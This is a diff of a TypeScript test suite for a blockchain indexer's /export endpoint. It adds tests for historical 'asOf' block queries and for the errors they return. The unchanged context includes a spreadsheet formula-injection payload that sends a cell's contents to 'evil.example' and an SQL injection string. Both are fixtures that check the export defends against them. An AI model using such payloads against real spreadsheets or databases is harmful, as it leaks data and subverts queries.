@@ -104,6 +104,21 @@ describe('/export', () => {
     expect(response.headers.get('x-indexed-blocks')).toMatch(new RegExp(`^eip155:${CHAIN}=19:0x[0-9a-b]{64}$`))
   })
 
+  test('as of a past block is the list as of that block, goes on from its cursors, and says how final it is [INV-9]', async () => {
+    const parameters = {asOf: '{"block": 7}', orderBy: 'TIMESTAMP_DESC'}
+    const rows = await rowsOf('transfers.ndjson', parameters)
+    const ids = rows.map(({id}) => id)
+    expect(ids).toEqual(await idsBy('{ transfers(first: 500, orderBy: TIMESTAMP_DESC, asOf: {block: 7}) { nodes { id } } }'))
+    expect(rows.every(({blockNumber}) => Number(blockNumber) <= 7)).toBe(true)
+    const middle = rows[Math.floor(rows.length / 2)] as Row
+    expect((await rowsOf('transfers.ndjson', {...parameters, after: middle.cursor})).map(({id}) => id)).toEqual(
+      ids.slice(rows.indexOf(middle) + 1),
+    )
+    const momentOf = async (asOf: string) => (await ask('assets.csv', {asOf})).headers.get('x-as-of')
+    expect(await momentOf('{"block": 7}')).toMatch(new RegExp(`^eip155:${CHAIN}=7:0x[0-9a-b]{64}:FINAL$`))
+    expect(await momentOf(`{"block": 15, "chainId": "eip155:${CHAIN}"}`)).toMatch(/:HEAD$/)
+  })
+
   test("what a log's author wrote runs in no spreadsheet [INV-8]", async () => {
     const uri = '=HYPERLINK("http://evil.example?"&A1,"x")\r\n@SUM(A1)'
     await insertRow(app.pool, 'MetadataChange', {id: laterKey(9), scope: 'contract', collectionId: `${CHAIN}-${DULL}`, uri})
@@ -121,6 +136,9 @@ describe('/export refuses', () => {
     ['SQL', 'transfers.csv', {where: `{"from": {"eq": "' OR 1=1 --"}}`}, 400, 'BAD_USER_INPUT'],
     ['an order without an index', 'transfers.csv', {orderBy: 'FROM_ASC'}, 400, 'BAD_USER_INPUT'],
     ['a cursor of nobody', 'transfers.csv', {after: 'x'}, 400, 'BAD_USER_INPUT'],
+    ['a moment that is none', 'transfers.csv', {asOf: '{"block": "x"}'}, 400, 'BAD_USER_INPUT'],
+    ['a block that is not indexed', 'transfers.csv', {asOf: '{"block": 99}'}, 400, 'BLOCK_NOT_INDEXED'],
+    ['a hash of no block', 'transfers.csv', {asOf: `{"block": 7, "blockHash": "0x${'12'.repeat(32)}"}`}, 400, 'BLOCK_NOT_CANONICAL'],
     ['a misspelt parameter', 'transfers.csv', {orderby: 'ID_ASC'}, 400, 'BAD_USER_INPUT'],
   ])('%s', async (_, path, parameters, status, code) => {
     const response = await ask(path, parameters)
